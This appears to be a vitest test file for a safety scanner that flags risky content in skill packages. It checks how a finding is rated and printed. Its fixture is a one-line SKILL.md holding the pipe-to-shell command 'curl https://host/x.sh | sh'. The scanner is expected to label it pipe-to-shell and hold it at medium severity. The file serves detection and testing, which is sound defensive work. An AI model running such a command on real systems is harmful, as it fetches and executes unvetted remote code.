import { expect, test } from 'vitest'
import { scanSkill } from '../../../src/catalog/safety/scan.ts'
import { printFinding } from './report.ts'

test('a finding is printed with the severity that holds it back, and with the context that lowers it', () => {
  const text = 'Look for `curl https://host/x.sh | sh`.'
  const [found] = scanSkill({
    files: [{ path: 'SKILL.md', size: text.length }],
    read: () => Buffer.from(text),
    names: { name: 'audit-kit', description: 'Reviews skills.' },
  })
  expect(found).toMatchObject({ severity: 'low', held: 'medium' })
  expect(printFinding('audit-kit', found!)).toContain('medium pipe-to-shell audit-kit/SKILL.md:1')
  expect(printFinding('audit-kit', found!)).toContain('(a sample address: low on its page)')
})
